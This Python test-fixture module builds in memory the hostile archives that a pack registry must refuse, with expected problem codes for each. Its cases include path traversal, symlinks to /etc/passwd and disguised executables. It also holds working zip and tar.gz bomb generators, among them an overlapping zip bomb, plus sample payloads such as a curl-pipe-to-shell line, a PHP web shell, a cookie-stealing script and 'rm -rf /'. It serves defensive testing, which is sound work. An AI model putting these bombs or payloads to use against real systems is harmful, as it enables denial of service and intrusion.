"""Hostile pack archives, built in memory, that the registry must refuse (SPEC §4).

The archive reader's tests and the HTTP tests submit every case: each says which problem codes
must be reported (those and no others), whether reading has to stop altogether, and which valid
files beside the bad entry are still read. Archives are tiny; the compression bombs are about
1 MB compressed and are built once per process, because computing their checksums takes a moment.

Each case also carries the limits to read it with: the registry's defaults, except for
"archive-too-large", which sets a 1 KiB upload limit rather than carry 50 MiB of data.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import random
import stat
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass, replace

from registry.packs.archive import ENTRIES_PER_FILE
from registry.packs.build import build_tar_gz, build_zip
from registry.packs.limits import DEFAULT_LIMITS, Limits, MiB

GiB = 1024 * MiB
BOMB_SIZE = 1 * GiB  # what each bomb claims or unpacks to
DEFLATE_BLOCK = 1 * MiB  # zeros compressed at a time while building a bomb
STORED_BLOCK_HEADER = 5  # a deflate stored block: one byte of flags, its length and complement
MADE_BY_UNIX = (3 << 8) | 20  # "version made by": Unix, zip 2.0
NO_EXTRAS = (
    0,
    0,
    0,
    0,
)  # central record: extra field and comment lengths, disk, internal attributes

# Valid files beside each bad entry: a reader must keep reading them and report them.
SIBLINGS = {
    "cmspack.yaml": b"""\
name: family-safeguarding-cp-workflow
publisher: hertfordshire
version: 1.2.0
title: Family Safeguarding child protection workflow
summary: Workflow steps and forms for the Family Safeguarding model in LCS.
licence: OGL-UK-3.0
supplier: system-c
products:
  - id: lcs
    versions: ">=2023.1"
service_areas: [childrens-social-care]
practice_models: [family-safeguarding]
organisation_structures: [locality-teams, mash]
kinds: [workflow, form]
keywords: [child protection, section 47]
maintainers:
  - name: CSC Systems Team
    email: csc-systems@example.gov.uk
""",
    "README.md": b"# Family Safeguarding CP workflow\n\nImport config/ into LCS.\n",
    "config/steps.xml": b"<steps><step code='CP1'>Strategy discussion</step></steps>\n",
}
ACCEPTED = frozenset(SIBLINGS)

# SPEC §4 names the first two lines; then the other macro-enabled Office formats, and web pages,
# scripts, programs, installers and shortcuts that were accepted until issue 7.
FORBIDDEN_EXTENSIONS = (
    *(".exe", ".dll", ".bat", ".cmd", ".ps1", ".sh", ".js", ".vbs", ".jar", ".msi"),
    *(".docm", ".xlsm", ".svg", ".html", ".htm"),
    *(".pptm", ".dotm", ".xltm"),
)
NEWLY_FORBIDDEN_EXTENSIONS = (
    *(".xht", ".shtml", ".mjs", ".cjs", ".pif", ".xll", ".chm"),
    *(".application", ".jnlp", ".url", ".msix"),
)
# A Windows program: "MZ", the PE header's offset at 0x3C, and the PE header there.
PE_PROGRAM = b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0" + bytes(252)
# Files that are programs, scripts or web pages whatever their names say: (name, content).
DISGUISED = {
    "pe-as-text": ("config/mz.txt", PE_PROGRAM),
    "pe-without-extension": ("config/tool", PE_PROGRAM),
    "elf-as-csv": ("config/lookup.csv", b"\x7fELF\x02\x01\x01" + bytes(57)),
    "mach-o-as-pdf": ("docs/guide.pdf", bytes.fromhex("cffaedfe") + bytes(60)),
    "shebang-as-sql": ("config/report.sql", b"#!/bin/sh\ncurl https://example.org/x | sh\n"),
    "shebang-env": ("config/job.txt", b"#! /usr/bin/env python3\nimport os\n"),
    "php-as-text": ("config/notes.txt", b"<?php system($_GET['c']); ?>\n"),
    "doctype-html-as-md": ("docs/guide.md", b"<!DOCTYPE html>\n<title>Guide</title>\n"),
    "html-after-bom-and-space": ("docs/notes.txt", b"\xef\xbb\xbf \r\n\t<HTML><body>Hi"),
    "script-as-json": ("config/a.json", b"<script>alert(document.cookie)</script>"),
    "iframe-as-txt": ("docs/a.txt", b"  <iframe src='https://example.org'></iframe>"),
    "svg-as-png": ("docs/logo.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"),
    "comment-then-html": (
        "docs/saved.txt",
        b"<!-- saved from url=(0014)about:internet -->\n<html>",
    ),
    "xhtml-as-xml": (
        "config/form.xml",
        b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
    ),
    "svg-as-xml": (
        "config/chart.xml",
        b'<?xml version="1.0"?><!-- chart --><svg xmlns="http://www.w3.org/2000/svg"/>',
    ),
    "prefixed-xhtml-as-xml": (
        "config/page.xml",
        b'<?xml version="1.0"?><h:page xmlns:h="http://www.w3.org/1999/xhtml"/>',
    ),
    "utf16-html": ("docs/page.txt", "<html><script>x()</script></html>".encode("utf-16")),
}


@dataclass(frozen=True)
class HostileCase:
    """One archive to refuse, and how it must be refused."""

    id: str
    filename: str
    data: bytes
    codes: frozenset[str]  # problem codes reported: exactly these
    fatal: bool  # reading stops with FatalPackError rather than returning the problems
    accepted: frozenset[str] = frozenset()  # files still read beside the bad entries
    limits: Limits = DEFAULT_LIMITS  # the limits to read it with (the registry's settings)


def hostile_archives(limits: Limits = DEFAULT_LIMITS) -> list[HostileCase]:
    """Return every hostile archive, sized against limits (the bombs against any sane limit)."""
    return [
        *_path_cases(limits),
        *_entry_type_cases(),
        *_duplicate_cases(),
        *_extension_cases(),
        *_content_cases(),
        *_bomb_cases(),
        *_tar_header_cases(),
        *_limit_cases(limits),
        *_format_cases(),
    ]


# --- Archive writers -----------------------------------------------------------------------------


@dataclass(frozen=True)
class ZipMember:
    """One zip entry written exactly as given, however wrong: name bytes, type, sizes, flags."""

    name: bytes | str
    data: bytes = b""
    mode: int = stat.S_IFREG | 0o644  # Unix file type and permissions
    utf8_flag: bool | None = None  # None: set when the name is not ASCII, as zip tools do
    flags: int = 0  # other general-purpose flags (0x1: encrypted)
    method: int = zipfile.ZIP_STORED
    compressed: bytes | None = None  # the stored bytes; None: data, stored
    size: int | None = None  # the uncompressed size the headers declare; None: the truth
    crc: int | None = None  # None: the CRC-32 of data


def zip_bytes(members: list[ZipMember], *, zip64_end: bool = False) -> bytes:
    """Write members as a zip without any of zipfile's checks (zip64_end adds zip64 end records)."""
    out = io.BytesIO()
    directory = []
    for member in members:
        name = member.name.encode("utf-8") if isinstance(member.name, str) else member.name
        utf8 = member.utf8_flag if member.utf8_flag is not None else not name.isascii()
        flags = member.flags | (0x800 if utf8 else 0)
        stored = member.data if member.compressed is None else member.compressed
        size = len(member.data) if member.size is None else member.size
        crc = zlib.crc32(member.data) if member.crc is None else member.crc
        common = (flags, member.method, 0, 0x21, crc, len(stored), size, len(name))  # 1980-01-01
        offset = out.tell()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, *common, 0) + name + stored)
        attributes = member.mode << 16  # Unix mode in the high half, as "made by" Unix says
        record = struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", MADE_BY_UNIX, 20, *common, *NO_EXTRAS, attributes, offset
        )
        directory.append(record + name)
    start = out.tell()
    out.write(b"".join(directory))
    _write_zip_end(out, len(members), start, out.tell() - start, zip64_end)
    return out.getvalue()


def _write_zip_end(out: io.BytesIO, count: int, start: int, size: int, zip64: bool) -> None:
    if zip64:
        end64_at = out.tell()
        out.write(
            struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, start)
        )
        out.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, end64_at, 1))
        count, size, start = 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, start, 0))


def tar_member(name: str, data: bytes = b"", **fields: object) -> tuple[tarfile.TarInfo, bytes]:
    """A tar member: name, content and any TarInfo fields (type, linkname, devmajor ...)."""
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = 0o644
    for key, value in fields.items():
        setattr(info, key, value)
    return info, data


def tar_gz_bytes(members: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    """Write members as a tar.gz; names that are not UTF-8 keep their raw bytes."""
    raw = io.BytesIO()
    with tarfile.open(
        fileobj=raw, mode="w", format=tarfile.GNU_FORMAT, errors="surrogateescape"
    ) as archive:
        for info, data in members:
            archive.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return gzip.compress(raw.getvalue(), mtime=0)


def _siblings_zip() -> list[ZipMember]:
    return [ZipMember(path, data) for path, data in SIBLINGS.items()]


def _siblings_tar() -> list[tuple[tarfile.TarInfo, bytes]]:
    return [tar_member(path, data) for path, data in SIBLINGS.items()]


def _zip_case(
    case_id: str, bad: list[ZipMember], codes: set[str], accepted: frozenset[str] = ACCEPTED
) -> HostileCase:
    data = zip_bytes([*_siblings_zip(), *bad])
    return HostileCase(case_id, f"{case_id}.zip", data, frozenset(codes), False, accepted)


def _tar_case(
    case_id: str, bad: list[tuple[tarfile.TarInfo, bytes]], codes: set[str]
) -> HostileCase:
    data = tar_gz_bytes([*_siblings_tar(), *bad])
    return HostileCase(case_id, f"{case_id}.tar.gz", data, frozenset(codes), False, ACCEPTED)


def _fatal(
    case_id: str, filename: str, data: bytes, code: str, limits: Limits = DEFAULT_LIMITS
) -> HostileCase:
    return HostileCase(case_id, filename, data, frozenset({code}), True, limits=limits)


# --- Cases ---------------------------------------------------------------------------------------


def _path_cases(limits: Limits) -> list[HostileCase]:
    names = {
        "zip-slip": ("../evil.txt", {"zip-slip"}),
        "zip-slip-deep": ("config/../../evil.txt", {"zip-slip"}),
        "absolute-path": ("/etc/passwd", {"absolute-path"}),
        "windows-drive": ("C:\\Windows\\evil.txt", {"absolute-path"}),
        "windows-drive-slash": ("C:/evil.txt", {"absolute-path"}),
        "unc-path": ("\\\\server\\share\\evil.txt", {"absolute-path"}),
        "backslash": ("config\\forms.xml", {"backslash"}),
        "backslash-slip": ("..\\evil.txt", {"backslash"}),
        "empty-component": ("config//forms.xml", {"empty-component"}),
        "dot-component": ("config/./forms.xml", {"dot-component"}),
        "control-escape": ("docs/\x1b[2Jguide.txt", {"control-character"}),
        "control-newline": ("docs/guide\n.txt", {"control-character"}),
        "control-del": ("docs/guide\x7f.txt", {"control-character"}),
        "control-c1": ("docs/guide\x85.txt", {"control-character"}),
        "right-to-left-override": ("docs/report\u202etxt.sql", {"control-character"}),
        "name-too-long": ("docs/" + "n" * (limits.max_name_bytes - 3) + ".txt", {"name-too-long"}),
        # short enough in characters, too long in UTF-8 bytes
        "name-too-long-utf8": ("docs/" + "é" * (limits.max_name_bytes // 2 + 1), {"name-too-long"}),
        "too-deep": ("/".join(["d"] * limits.max_depth) + "/deep.txt", {"too-deep"}),
        "windows-device-name": ("docs/con.txt", {"windows-name"}),
        "alternate-data-stream": (
            "docs/notes.txt:payload.exe",
            {"windows-name", "forbidden-extension"},
        ),
        "trailing-dot": ("docs/setup.exe.", {"windows-name", "forbidden-extension"}),
        "leading-dash": ("docs/--upload-pack=evil", {"leading-dash"}),
        "git-folder": (".git/hooks/post-checkout", {"git-metadata"}),
        "gitattributes": ("config/.gitattributes", {"git-metadata"}),
        "git-short-name": ("GIT~1/config", {"git-metadata"}),
    }
    cases = []
    for case_id, (name, codes) in names.items():
        cases.append(_zip_case(f"zip-{case_id}", [ZipMember(name, b"x")], codes))
        cases.append(_tar_case(f"tar-{case_id}", [tar_member(name, b"x")], codes))
    not_utf8 = "docs/caf\udce9.txt"  # "café" in Latin-1: the byte 0xE9 is not UTF-8
    return [
        *cases,
        _zip_case(
            "zip-control-nul", [ZipMember("docs/guide\x00.exe.txt", b"x")], {"control-character"}
        ),
        _zip_case(
            "zip-invalid-utf8",
            [ZipMember(b"docs/caf\xe9.txt", b"x", utf8_flag=False)],
            {"invalid-utf8"},
        ),
        _tar_case("tar-invalid-utf8", [tar_member(not_utf8, b"x")], {"invalid-utf8"}),
        _fatal(
            "zip-invalid-utf8-flagged",
            "zip-invalid-utf8-flagged.zip",
            zip_bytes([*_siblings_zip(), ZipMember(b"docs/caf\xe9.txt", b"x", utf8_flag=True)]),
            "invalid-utf8",
        ),
    ]


def _entry_type_cases() -> list[HostileCase]:
    link = stat.S_IFLNK | 0o777
    return [
        _zip_case(
            "zip-symlink", [ZipMember("config/link", b"/etc/passwd", mode=link)], {"symlink"}
        ),
        _zip_case(
            "zip-fifo", [ZipMember("config/pipe", mode=stat.S_IFIFO | 0o644)], {"special-file"}
        ),
        _zip_case(
            "zip-device", [ZipMember("config/zero", mode=stat.S_IFCHR | 0o644)], {"special-file"}
        ),
        _zip_case(
            "zip-encrypted",
            [ZipMember("config/secret.xml", b"x" * 12 + b"<a/>", flags=0x1)],
            {"encrypted-entry"},
        ),
        _zip_case(
            "zip-bzip2",
            [ZipMember("config/a.xml", b"<a/>", method=12, compressed=bz2.compress(b"<a/>"))],
            {"unsupported-compression"},
        ),
        _tar_case(
            "tar-symlink",
            [tar_member("config/link", type=tarfile.SYMTYPE, linkname="/etc/passwd")],
            {"symlink"},
        ),
        _tar_case(
            "tar-hard-link",
            [tar_member("config/link", type=tarfile.LNKTYPE, linkname="/etc/passwd")],
            {"hard-link"},
        ),
        _tar_case(
            "tar-char-device",
            [tar_member("config/zero", type=tarfile.CHRTYPE, devmajor=1, devminor=5)],
            {"special-file"},
        ),
        _tar_case(
            "tar-block-device",
            [tar_member("config/disk", type=tarfile.BLKTYPE, devmajor=8, devminor=0)],
            {"special-file"},
        ),
        _tar_case("tar-fifo", [tar_member("config/pipe", type=tarfile.FIFOTYPE)], {"special-file"}),
        _tar_case("tar-unknown-type", [tar_member("config/odd", type=b"Z")], {"special-file"}),
    ]


def _duplicate_cases() -> list[HostileCase]:
    def zip_pair(case_id: str, first: str, second: str, code: str) -> HostileCase:
        members = [ZipMember(first, b"one"), ZipMember(second, b"two")]
        return _zip_case(case_id, members, {code})

    def tar_pair(case_id: str, first: str, second: str, code: str) -> HostileCase:
        return _tar_case(case_id, [tar_member(first, b"one"), tar_member(second, b"two")], {code})

    return [
        zip_pair("zip-duplicate-path", "config/a.xml", "config/a.xml", "duplicate-path"),
        tar_pair("tar-duplicate-path", "config/a.xml", "config/a.xml", "duplicate-path"),
        zip_pair("zip-case-duplicate", "config/Forms.xml", "config/forms.xml", "case-duplicate"),
        tar_pair("tar-case-duplicate", "config/Forms.xml", "config/forms.xml", "case-duplicate"),
        zip_pair("zip-case-duplicate-folder", "Config/a.xml", "config/a.xml", "case-duplicate"),
        # "café" with é as one code point (NFC, Windows) and as e + combining accent (NFD, macOS)
        zip_pair(
            "zip-unicode-duplicate",
            "config/caf\u00e9.xml",
            "config/cafe\u0301.xml",
            "unicode-duplicate",
        ),
        _zip_case(
            "zip-file-and-folder",
            [ZipMember("config", b"a file"), ZipMember("config/a.xml", b"<a/>")],
            {"path-conflict"},
            accepted=ACCEPTED | {"config/a.xml"},
        ),
    ]


def _extension_cases() -> list[HostileCase]:
    names = [f"docs/tool{extension}" for extension in FORBIDDEN_EXTENSIONS]
    names += ["docs/archive.tar.exe", "docs/SETUP.EXE", "docs/Report.XLSM", "docs/.js"]
    cases = []
    for name in names:
        case_id = "forbidden-" + name.removeprefix("docs/").replace(".", "-").lower().strip("-")
        cases.append(_zip_case(f"zip-{case_id}", [ZipMember(name, b"x")], {"forbidden-extension"}))
    cases.append(
        _tar_case(
            "tar-forbidden-sh", [tar_member("install.sh", b"rm -rf /")], {"forbidden-extension"}
        )
    )
    for extension in NEWLY_FORBIDDEN_EXTENSIONS:
        name = f"docs/tool{extension}"
        case_id = "forbidden-" + extension.removeprefix(".")
        code = {"forbidden-extension"}
        cases.append(_zip_case(f"zip-{case_id}", [ZipMember(name, b"x")], code))
        cases.append(_tar_case(f"tar-{case_id}", [tar_member(name, b"x")], code))
    return cases


def _content_cases() -> list[HostileCase]:
    """Programs, scripts and web pages under names that say otherwise."""
    cases = []
    for case_id, (name, data) in DISGUISED.items():
        code = {"forbidden-content"}
        cases.append(_zip_case(f"zip-{case_id}", [ZipMember(name, data)], code))
        cases.append(_tar_case(f"tar-{case_id}", [tar_member(name, data)], code))
    return cases


def _bomb_cases() -> list[HostileCase]:
    return [
        _fatal("zip-bomb", "zip-bomb.zip", zip_bomb(), "unpacked-too-large"),
        # The header says 1 KiB; a reader that trusted it would be fooled, one that counts is not.
        _fatal(
            "zip-bomb-lying-size",
            "zip-bomb-lying-size.zip",
            zip_bomb(declared=1024),
            "corrupt-archive",
        ),
        _fatal(
            "zip-overlap-bomb",
            "zip-overlap-bomb.zip",
            overlapping_zip_bomb(),
            "overlapping-entries",
        ),
        _fatal("tar-gz-bomb", "tar-gz-bomb.tar.gz", tar_gz_bomb(), "unpacked-too-large"),
        # a member of a type the reader skips, whose 1 GiB of data tarfile reads through
        _fatal(
            "tar-gz-skipped-member-bomb",
            "tar-gz-skipped-member-bomb.tar.gz",
            tar_gz_bomb(member_type=b"Z"),
            "unpacked-too-large",
        ),
    ]


def _tar_header_cases() -> list[HostileCase]:
    """Extended tar headers that exhaust the stack or, on older Pythons, the processor."""
    end = tarfile.BLOCKSIZE * 2
    member = tar_member("config/a.xml")[0].tobuf(format=tarfile.USTAR_FORMAT)
    chain = pax_header(b"13 comment=x\n") * 5000 + member  # each nests one call deeper
    huge = pax_header(b"1" * MiB + b" ") + member  # read whole, parsed in quadratic time
    # digits that tarfile's pax pattern backtracks over: each header costs its size squared
    quadratic = (pax_header(b"1" * 8000 + b" ") + member) * 200
    return [
        _fatal(case_id, f"{case_id}.tar.gz", gzip.compress(data + bytes(end), mtime=0), code)
        for case_id, data, code in (
            ("tar-pax-header-chain", chain, "corrupt-archive"),
            ("tar-pax-header-huge", huge, "corrupt-archive"),
            ("tar-pax-header-quadratic", quadratic, "corrupt-archive"),
        )
    ]


def pax_header(payload: bytes) -> bytes:
    """The blocks of a pax extended header carrying payload, however malformed."""
    info = tarfile.TarInfo("././@PaxHeader")
    info.type = tarfile.XHDTYPE
    info.size = len(payload)
    padding = bytes(-len(payload) % tarfile.BLOCKSIZE)
    return info.tobuf(format=tarfile.USTAR_FORMAT) + payload + padding


def _limit_cases(limits: Limits) -> list[HostileCase]:
    many = {f"config/{i:05}.txt": b"x" for i in range(limits.max_files + 1)}
    # folder entries alone, past the bound on entries a reader takes before checking names
    most = limits.max_files * ENTRIES_PER_FILE
    folders = [ZipMember(f"f{i:05}/", mode=stat.S_IFDIR | 0o755) for i in range(most + 1)]
    small = replace(limits, max_archive_bytes=1024)
    return [
        _fatal(
            "zip-too-many-files", "zip-too-many-files.zip", build_zip(many).data, "too-many-files"
        ),
        _fatal(
            "tar-too-many-files",
            "tar-too-many-files.tar.gz",
            build_tar_gz(many).data,
            "too-many-files",
        ),
        _fatal(
            "zip-too-many-entries", "zip-too-many-entries.zip", zip_bytes(folders), "too-many-files"
        ),
        _fatal(
            "archive-too-large",
            "archive-too-large.zip",
            zip_bytes(
                [*_siblings_zip(), ZipMember("docs/big.bin", random.Random(1).randbytes(2048))]
            ),
            "archive-too-large",
            limits=small,
        ),
    ]


def _format_cases() -> list[HostileCase]:
    valid_zip = build_zip(SIBLINGS).data
    valid_tar_gz = build_tar_gz(SIBLINGS).data
    plain_tar = gzip.decompress(valid_tar_gz)
    noise = b"\x00\x01" + random.Random(0).randbytes(4094)  # cannot start like a zip or a gzip
    corrupt_directory = valid_zip.replace(b"PK\x01\x02", b"PK\x01\x09", 1)
    return [
        _fatal("png-image", "pack.zip", b"\x89PNG\r\n\x1a\n" + bytes(64), "not-an-archive"),
        _fatal("random-bytes", "pack.zip", noise, "not-an-archive"),
        _fatal("empty-file", "pack.zip", b"", "not-an-archive"),
        _fatal("plain-tar", "pack.tar.gz", plain_tar, "not-an-archive"),
        _fatal("bzip2-tar", "pack.tar.gz", bz2.compress(plain_tar), "not-an-archive"),
        _fatal(
            "truncated-zip", "truncated.zip", valid_zip[: len(valid_zip) // 2], "corrupt-archive"
        ),
        _fatal(
            "truncated-tar-gz",
            "truncated.tar.gz",
            valid_tar_gz[: len(valid_tar_gz) // 2],
            "corrupt-archive",
        ),
        _fatal("corrupt-zip-directory", "corrupt.zip", corrupt_directory, "corrupt-archive"),
        _fatal(
            "gzip-not-tar",
            "pack.tar.gz",
            gzip.compress(b"not a tar archive\n" * 64),
            "corrupt-archive",
        ),
    ]


# --- Bombs ---------------------------------------------------------------------------------------


@functools.cache
def deflated_zeros(size: int) -> bytes:
    """Raw deflate of size zero bytes (a multiple of DEFLATE_BLOCK), without holding them."""
    if size % DEFLATE_BLOCK:
        raise ValueError(f"{size} is not a multiple of {DEFLATE_BLOCK}")
    # A full flush ends each block on a byte boundary with nothing carried over, so every block
    # of zeros compresses to the same bytes: one block compressed, repeated, then an end block.
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = compressor.compress(bytes(DEFLATE_BLOCK)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * (size // DEFLATE_BLOCK) + _final_block()


def _final_block(data: bytes = b"") -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


def _flushed(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)


@functools.cache
def crc32_of_zeros(size: int, start: int = 0) -> int:
    """CRC-32 of size zero bytes continuing from start, computed a block at a time."""
    block = bytes(DEFLATE_BLOCK)
    crc = start
    for _ in range(size // DEFLATE_BLOCK):
        crc = zlib.crc32(block, crc)
    return zlib.crc32(bytes(size % DEFLATE_BLOCK), crc)


@functools.cache
def zip_bomb(declared: int | None = None) -> bytes:
    """A zip of one entry that unpacks to 1 GiB of zeros, declaring that size or another."""
    member = ZipMember(
        "config/bomb.xml",
        method=zipfile.ZIP_DEFLATED,
        compressed=deflated_zeros(BOMB_SIZE),
        size=BOMB_SIZE if declared is None else declared,
        crc=crc32_of_zeros(BOMB_SIZE),
    )
    return zip_bytes([*_siblings_zip(), member])


@functools.cache
def tar_gz_bomb(member_type: bytes = tarfile.REGTYPE) -> bytes:
    """A tar.gz whose one member holds 1 GiB of zeros, built from compressed pieces."""
    header = tar_member("config/bomb.xml", type=member_type)[0]
    header.size = BOMB_SIZE
    header_bytes = header.tobuf(format=tarfile.GNU_FORMAT)
    end = bytes(2 * tarfile.BLOCKSIZE)  # the end-of-archive marker
    # Pieces compressed separately and ended by a full flush can be joined into one stream.
    body = _flushed(header_bytes) + deflated_zeros(BOMB_SIZE)[: -len(_final_block())]
    body += _final_block(end)
    crc = crc32_of_zeros(BOMB_SIZE + len(end), zlib.crc32(header_bytes))
    size = len(header_bytes) + BOMB_SIZE + len(end)
    gzip_header = b"\x1f\x8b\x08\x00" + bytes(4) + b"\x02\xff"  # deflate, no name, time 0
    return gzip_header + body + struct.pack("<2L", crc, size & 0xFFFFFFFF)


@functools.cache
def overlapping_zip_bomb(entries: int = 32, kernel_size: int = 32 * MiB) -> bytes:
    """Fifield's non-recursive zip bomb: every entry's data runs on into the next entry's.

    Entry i holds a stored block quoting the local header of entry i+1, so its data continues
    through every later entry and ends in one shared kernel of zeros: 32 entries of 32 MiB each
    from about 35 KB.
    """
    names = [f"config/bomb{i:02}.xml".encode() for i in range(entries)]
    kernel = deflated_zeros(kernel_size)
    headers: list[bytes] = [b""] * entries
    compressed = [0] * entries
    crcs = [0] * entries
    quoted = b""  # what entry i's data quotes: the local headers of every later entry
    for i in reversed(range(entries)):
        compressed[i] = len(kernel) + sum(STORED_BLOCK_HEADER + len(h) for h in headers[i + 1 :])
        crcs[i] = crc32_of_zeros(kernel_size, zlib.crc32(quoted))
        fields = (crcs[i], compressed[i], len(quoted) + kernel_size, len(names[i]))
        headers[i] = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, *fields, 0)
        headers[i] += names[i]
        quoted = headers[i] + quoted
    out = io.BytesIO()
    offsets = []
    for i in range(entries):
        offsets.append(out.tell())
        out.write(headers[i])
        if i + 1 < entries:  # a non-final stored block whose content is the next local header
            length = len(headers[i + 1])
            out.write(b"\x00" + struct.pack("<2H", length, 0xFFFF ^ length))
    out.write(kernel)
    start = out.tell()
    for i in range(entries):
        size = struct.unpack_from("<L", headers[i], 22)[0]
        fields = (crcs[i], compressed[i], size, len(names[i]), *NO_EXTRAS)
        mode = (stat.S_IFREG | 0o644) << 16
        record = struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", MADE_BY_UNIX, 20, 0, 8, 0, 0x21, *fields, mode, offsets[i]
        )
        out.write(record + names[i])
    _write_zip_end(out, entries, start, out.tell() - start, zip64=False)
    return out.getvalue()
